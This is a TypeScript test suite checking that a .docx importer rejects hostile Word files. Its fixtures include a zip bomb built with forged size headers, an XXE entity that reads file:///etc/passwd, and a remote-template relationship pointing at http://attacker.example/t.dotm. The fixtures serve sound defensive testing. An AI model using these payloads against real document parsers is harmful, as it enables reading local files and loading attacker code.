// Hostile returned Word files: each is refused with a specific error naming the file and the part, before any
// block is read; a link to the outside is kept as text and never opened.
import { PackLibrary } from '../../node/packs/packLibrary';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { createContentService } from '../../node/services/contentService';
import { exportDocx } from '../../node/docx/exportDocx';
import { readDocx } from '../../node/docx/readDocx';
import { ZIP_LIMITS } from '../../node/docx/safeZip';
import { AppFailure } from '../../core/ipc/result';

// The bundled data packs only: nothing is installed in this empty user data folder.
const content = createContentService(
  new PackLibrary({ userDataDir: mkdtempSync(join(tmpdir(), 'bbb-docx-packs-')) }),
);
let good: Uint8Array;

beforeAll(async () => {
  const book = content.draftBook(
    'bilateral-space-dialogue',
    'JP',
    { date: '2026-03-12', city: 'Tokyo', counterpart: null, principal: null },
    { now: new Date('2026-03-01T09:00:00Z'), id: 'book-jp' },
  );
  good = (await exportDocx(book, content.framework())).bytes;
});

/** The exported file with some parts replaced or added. */
function withParts(parts: Record<string, Uint8Array | string>): Uint8Array {
  const all = unzipSync(good);
  for (const [name, v] of Object.entries(parts))
    all[name] = typeof v === 'string' ? strToU8(v) : new Uint8Array(v);
  return zipSync(all);
}

/** Rewrites the declared uncompressed size of `name` in both zip headers (a lying directory). */
function lieAboutSize(zip: Uint8Array, name: string, size: number): Uint8Array {
  const dv = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const bytes = strToU8(name);
  const at = (i: number, off: number) =>
    bytes.every((b, k) => zip[i + off + k] === b) && zip[i + off + bytes.length] !== undefined;
  for (let i = 0; i < zip.length - 46; i++) {
    const sig = dv.getUint32(i, true);
    if (sig === 0x04034b50 && dv.getUint16(i + 26, true) === bytes.length && at(i, 30))
      dv.setUint32(i + 22, size, true);
    if (sig === 0x02014b50 && dv.getUint16(i + 28, true) === bytes.length && at(i, 46))
      dv.setUint32(i + 24, size, true);
  }
  return zip;
}

function refusal(bytes: Uint8Array): string {
  try {
    readDocx(bytes, 'returned.docx');
  } catch (error) {
    expect(error).toBeInstanceOf(AppFailure);
    expect((error as AppFailure).code).toBe('validation');
    return (error as Error).message;
  }
  throw new Error('the file was accepted');
}

describe('readDocx refuses hostile files', () => {
  it('reads the exported file itself (the baseline the others vary)', () => {
    expect(readDocx(good, 'returned.docx').paragraphs.length).toBeGreaterThan(20);
  });

  it('not a zip', () => {
    expect(refusal(strToU8('{"formatVersion":2}'))).toBe(
      'returned.docx: is not a Word document (.docx): it is not a zip file',
    );
  });

  it('a zip that is not a Word document', () => {
    expect(refusal(zipSync({ 'hello.txt': strToU8('hi') }))).toMatch(
      /^returned\.docx: is a zip file but not a Word document/,
    );
  });

  it('a file over the size cap', () => {
    const big = new Uint8Array(ZIP_LIMITS.maxFileBytes + 1);
    big.set(good);
    expect(refusal(big)).toMatch(
      /^returned\.docx: is \d+ bytes; a returned Word document may be at most/,
    );
  });

  it('an entry whose declared size is over the entry cap', () => {
    const zip = withParts({ 'word/document.xml': new Uint8Array(ZIP_LIMITS.maxEntryBytes + 10) });
    expect(refusal(zip)).toMatch(
      /^returned\.docx: part "word\/document\.xml" is \d+ bytes uncompressed; the cap is/,
    );
  });

  it('a zip bomb: a directory that lies about the size, stopped while inflating', () => {
    const zip = lieAboutSize(
      withParts({ 'word/document.xml': new Uint8Array(ZIP_LIMITS.maxEntryBytes * 2) }),
      'word/document.xml',
      1000,
    );
    expect(refusal(zip)).toMatch(
      /^returned\.docx: part "word\/document\.xml" inflates past \d+ bytes \(a zip bomb\?\)/,
    );
  });

  it('parts that together inflate past the total cap', () => {
    const rels = (n: number) =>
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${' '.repeat(n)}</Relationships>`;
    const each = ZIP_LIMITS.maxEntryBytes - 1000;
    const zip = withParts({
      'a/_rels/1.rels': rels(each),
      'a/_rels/2.rels': rels(each),
      'a/_rels/3.rels': rels(each),
      'a/_rels/4.rels': rels(each),
    });
    expect(refusal(zip)).toMatch(
      /^returned\.docx: .*inflates past \d+ bytes in all \(a zip bomb\?\)/,
    );
  });

  it('an XXE: a DOCTYPE with an external entity is refused before parsing', () => {
    const xml = new TextDecoder().decode(unzipSync(good)['word/document.xml']);
    const xxe = xml
      .replace(
        '<w:document ',
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document ',
      )
      .replace('BRIEFING BOOK', '&xxe;');
    expect(refusal(withParts({ 'word/document.xml': xxe }))).toBe(
      'returned.docx: part "word/document.xml" declares a DOCTYPE or entities, which a Word document never does; refused (external entities are never loaded)',
    );
  });

  it('malformed XML names the part', () => {
    expect(refusal(withParts({ 'word/document.xml': '<w:document><w:body>' }))).toMatch(
      /^returned\.docx: part "word\/document\.xml" is not well-formed XML/,
    );
  });

  it('an external relationship (a remote template) is refused; a hyperlink is only noted', () => {
    const rels = (type: string, target: string) =>
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
    expect(
      refusal(
        withParts({
          'word/_rels/settings.xml.rels': rels(
            'attachedTemplate',
            'http://attacker.example/t.dotm',
          ),
        }),
      ),
    ).toBe(
      'returned.docx: part "word/_rels/settings.xml.rels": relationship rId9 (attachedTemplate) points outside the file, to http://attacker.example/t.dotm; refused (a returned document may not load anything from outside)',
    );
    const linked = readDocx(
      withParts({ 'word/_rels/footer9.xml.rels': rels('hyperlink', 'https://example.org/') }),
      'r.docx',
    );
    expect(linked.notices).toEqual([
      'The file links to https://example.org/; the link is not opened and only its text is read.',
    ]);
  });
});
